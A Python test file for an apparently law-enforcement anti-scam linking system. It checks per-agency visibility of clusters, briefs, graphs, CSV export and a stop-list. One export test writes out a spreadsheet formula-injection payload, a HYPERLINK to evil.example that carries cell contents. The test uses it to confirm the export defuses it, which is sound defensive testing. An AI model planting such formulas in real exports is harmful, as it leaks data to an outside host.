"""What each agency sees of clusters: list, brief, network view and export, and the stop-list."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from counterscam.db.models import AuditEvent, Identifier
from counterscam.link.brief import ClusterHidden, ClusterNotFound, cluster_brief
from counterscam.link.export import export_clusters
from counterscam.link.listing import list_clusters
from counterscam.link.network import cluster_graph
from counterscam.link.rebuild import rebuild
from counterscam.link.rules import DEFAULT_RULES
from counterscam.link.stoplist import (
    StopListForbidden,
    add_stop,
    list_stops,
    remove_stop,
    stop_hubs,
)
from tests.link.region import Region, add_compound, add_party, add_report, groups, make_region

PHONE = "+60123450001"
RECRUITER = "+60123450009"


def _region(session: Session) -> tuple[Region, str]:
    region = make_region(session)
    r1 = add_report(
        session, region, "MY-G", day=0, mark="green", loss="100", names=[("phone", PHONE, "caller")]
    )
    add_report(
        session,
        region,
        "MY-A",
        day=2,
        mark="amber",
        loss="200",
        names=[("phone", PHONE, "caller"), ("phone", RECRUITER, "recruiter_contact")],
    )
    add_report(
        session, region, "MY-R", day=3, mark="red", loss="400", names=[("phone", PHONE, "caller")]
    )
    sg = add_report(
        session,
        region,
        "SG-G",
        day=4,
        mark="green",
        loss="800",
        agency="SG-ASCOM",
        names=[("phone", PHONE, "caller")],
    )
    add_party(session, r1, "Aung Aung", "victim_of_trafficking")
    add_party(session, sg, "Tan Wei", "suspect")
    add_compound(session, sg, "KK Park", "MM")
    add_report(
        session,
        region,
        "MY-RED-ONLY",
        day=50,
        mark="red",
        names=[("bank_account", "MY:MBBE:7", "beneficiary_account")],
    )
    add_report(
        session,
        region,
        "MY-RED-ONLY2",
        day=51,
        mark="red",
        names=[("bank_account", "MY:MBBE:7", "beneficiary_account")],
    )
    rebuild(session)
    page = list_clusters(session, region.caller(session, "MY-NSRC"), sort="reports")
    return region, page.items[0].key


@pytest.mark.parametrize(
    ("agency", "seen", "loss"),
    [
        ("MY-NSRC", 4, "1500.00"),
        ("SG-ASCOM", 3, "1100.00"),
        ("ASEANAPOL", 3, "1100.00"),
        ("AU-AFP", 2, "900.00"),
    ],
)
def test_list_counts_only_what_the_caller_may_see(
    session: Session, agency: str, seen: int, loss: str
) -> None:
    region, key = _region(session)
    page = list_clusters(session, region.caller(session, agency))
    big = next(c for c in page.items if c.key == key)
    assert (big.reports, big.hidden_reports, str(big.total_loss_usd)) == (seen, 4 - seen, loss)
    # The red-only cluster of MY is listed for MY alone.
    assert page.total == (2 if agency == "MY-NSRC" else 1)
    assert session.scalars(select(AuditEvent.action)).all()[-1] == "list_clusters"


def test_growth_window_ends_at_the_newest_report_the_caller_may_see(session: Session) -> None:
    # MY's red reports of day 50-51 end MY's window; a partner that may not see them must
    # get a window ending at its own newest report, or it could date reports hidden from it.
    region, key = _region(session)
    mine = list_clusters(session, region.caller(session, "MY-NSRC"), sort="growth")
    theirs = list_clusters(session, region.caller(session, "AU-AFP"), sort="growth")
    assert next(c for c in mine.items if c.key == key).growth_30d == 0
    assert next(c for c in theirs.items if c.key == key).growth_30d == 2


def test_list_filters_by_country_scam_type_and_compound(session: Session) -> None:
    region, key = _region(session)
    me = region.caller(session, "MY-NSRC")
    assert [c.key for c in list_clusters(session, me, compound="kk park").items] == [key]
    assert list_clusters(session, me, country="SG").total == 1
    assert list_clusters(session, me, scam_type="romance").total == 0


@pytest.mark.parametrize("compound", ["_", "%", "kk p_rk", "k%k"])
def test_compound_filter_reads_underscore_and_percent_as_written(
    session: Session, compound: str
) -> None:
    # LIKE read them as wildcards: "_" listed every cluster naming a compound.
    region, _ = _region(session)
    assert list_clusters(session, region.caller(session, "MY-NSRC"), compound=compound).total == 0


def test_compound_filter_reads_an_underscore_between_words_as_a_dash(session: Session) -> None:
    # "kk_park" was in the list above: since names are compared on the compound key, it is a
    # spelling of KK Park as "kk-park" is (link.compound_names), and finds it.
    region, key = _region(session)
    me = region.caller(session, "MY-NSRC")
    assert [c.key for c in list_clusters(session, me, compound="kk_park").items] == [key]


def test_brief_shows_victims_as_victims_links_and_holders_of_hidden_reports(
    session: Session,
) -> None:
    region, key = _region(session)
    brief = cluster_brief(session, region.caller(session, "SG-ASCOM"), key)
    assert brief.reports == 3 and brief.total_reports == 4
    assert [(h.agency_code, h.mark, h.reports) for h in brief.holdings] == [("MY-NSRC", "red", 1)]
    victims = [p for p in brief.persons if p.is_victim]
    assert [p.name for p in victims] == ["Aung Aung"]
    assert all(not p.is_victim for p in brief.persons if p.role == "suspect")
    assert brief.trafficking.identified_victims == 1
    assert [i.value for i in brief.trafficking.recruitment_channels] == [RECRUITER]
    assert brief.trafficking.compounds == ["KK Park"]
    assert "MM" in brief.operation_countries
    assert {c.name for c in brief.victim_countries} == {"MY", "SG"}
    assert brief.links and all(PHONE in link.sentence for link in brief.links)
    assert all("MY-R" not in (link.report_a, link.report_b) for link in brief.links)


def test_brief_of_a_cluster_the_caller_may_not_see_is_hit_no_hit(session: Session) -> None:
    region, _ = _region(session)
    red_key = list_clusters(session, region.caller(session, "MY-NSRC"), sort="recent").items[0].key
    with pytest.raises(ClusterHidden) as raised:
        cluster_brief(session, region.caller(session, "SG-ASCOM"), red_key)
    assert raised.value.holdings[0].agency_code == "MY-NSRC"
    assert str(raised.value).endswith("held by MY-NSRC (2 TLP:RED)")
    with pytest.raises(ClusterNotFound):
        cluster_brief(session, region.caller(session, "SG-ASCOM"), "CL-999999")


def test_network_view_has_only_visible_reports(session: Session) -> None:
    region, key = _region(session)
    graph = cluster_graph(session, region.caller(session, "AU-AFP"), key)
    labels = {n["label"] for n in graph.nodes if n["type"] == "report"}
    assert labels == {"MY-G", "SG-G"}
    assert {n["label"] for n in graph.nodes if n["type"] == "identifier"} == {PHONE}
    assert graph.hidden_reports == 2 and not graph.truncated
    assert all(e["target"].startswith("i") for e in graph.edges)


def test_export_writes_one_row_per_visible_report(session: Session) -> None:
    region, key = _region(session)
    out = io.StringIO()
    rows = export_clusters(session, region.caller(session, "AU-AFP"), out)
    lines = out.getvalue().splitlines()
    assert rows == 2 and lines[0] == "agency,external_ref,cluster"
    assert sorted(lines[1:]) == [f"MY-NSRC,MY-G,{key}", f"SG-ASCOM,SG-G,{key}"]


def test_export_of_a_reference_written_as_a_formula_does_not_run_it(session: Session) -> None:
    region = make_region(session)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    add_report(session, region, formula, day=0, names=[("phone", PHONE, "caller")])
    add_report(session, region, "-12", day=1, names=[("phone", PHONE, "caller")])
    rebuild(session)
    out = io.StringIO()
    export_clusters(session, region.caller(session, "MY-NSRC"), out)
    refs = {row[1] for row in csv.reader(io.StringIO(out.getvalue()))}
    assert "'" + formula in refs and formula not in refs
    assert "-12" in refs  # a plain number is data, left as written


def test_stop_list_entry_unlinks_at_rebuild_and_removing_it_links_again(session: Session) -> None:
    region, _ = _region(session)
    me = region.caller(session, "MY-NSRC")
    add_stop(session, me, kind="phone", value="012-345 0001", reason="spoofed caller ID")
    rebuild(session)
    assert frozenset({"MY-G"}) in groups(session, region)
    assert [(s.value, s.automatic) for s in list_stops(session, me, channel="web")] == [
        (PHONE, False)
    ]
    assert remove_stop(session, me, kind="phone", value=PHONE) is None
    rebuild(session)
    assert frozenset({"MY-G", "MY-A", "MY-R", "SG-G"}) in groups(session, region)
    with pytest.raises(ValueError, match="not a valid phone"):
        add_stop(session, me, kind="phone", value="12", reason="x")


def test_a_stop_list_entry_its_table_cannot_keep_is_refused_saying_why(
    session: Session,
) -> None:
    # Each failed the write on PostgreSQL (a traceback from the CLI, a 500 from the page).
    me = make_region(session).caller(session, "MY-NSRC")
    link = "http://scam.example/" + "ข่าว" * 145  # 600 as written, 5,240 once canonical
    with pytest.raises(ValueError, match="characters once made canonical, more than the 600"):
        add_stop(session, me, kind="url", value=link, reason="hub")
    with pytest.raises(ValueError, match="the reason is 501 characters; at most 500"):
        add_stop(session, me, kind="phone", value=PHONE, reason="r" * 501)
    add_stop(session, me, kind="phone", value=PHONE, reason="r" * 500)
    with pytest.raises(ValueError, match="reason holds a NUL"):
        remove_stop(session, me, kind="phone", value=PHONE, reason="a\x00b")
    assert [len(s.reason) for s in list_stops(session, me, channel="cli")] == [500]


def test_only_members_and_the_secretariat_edit_the_stop_list(session: Session) -> None:
    region, _ = _region(session)
    partner = region.caller(session, "AU-AFP")
    with pytest.raises(StopListForbidden, match="only member agencies and the secretariat"):
        add_stop(session, partner, kind="phone", value=PHONE, reason="looks like a hub")
    secretariat = region.caller(session, "ASEANAPOL")
    add_stop(session, secretariat, kind="phone", value=PHONE, reason="spoofed caller ID")
    with pytest.raises(StopListForbidden):
        remove_stop(session, partner, kind="phone", value=PHONE)
    assert [s.value for s in list_stops(session, partner, channel="web")] == [PHONE]


def test_stop_list_withholds_values_named_only_in_reports_the_caller_may_not_see(
    session: Session,
) -> None:
    region, _ = _region(session)
    me = region.caller(session, "MY-NSRC")
    add_stop(session, me, kind="phone", value=PHONE, reason="spoofed caller ID")
    add_stop(session, me, kind="phone", value="03-2345 6789", reason="genuine hotline")
    # A hub the rules found among MY's red reports alone.
    red = session.scalar(select(Identifier.id).where(Identifier.value == "MY:MBBE:7"))
    assert red is not None
    stop_hubs(session, [(red, 40, 10)], DEFAULT_RULES)

    def shown(agency: str) -> set[tuple[str, bool]]:
        caller = region.caller(session, agency)
        return {(s.value, s.withheld) for s in list_stops(session, caller, channel="web")}

    hotline = "+60323456789"  # named by no report: it tells nothing about them
    assert shown("MY-NSRC") == {(PHONE, False), (hotline, False), ("MY:MBBE:7", False)}
    for other in ("SG-ASCOM", "ASEANAPOL", "AU-AFP"):
        assert shown(other) == {(PHONE, False), (hotline, False), ("", True)}, other
    last = session.scalars(select(AuditEvent).order_by(AuditEvent.id.desc())).first()
    assert last is not None and (last.action, last.hits) == ("list_stop_entries", 2)
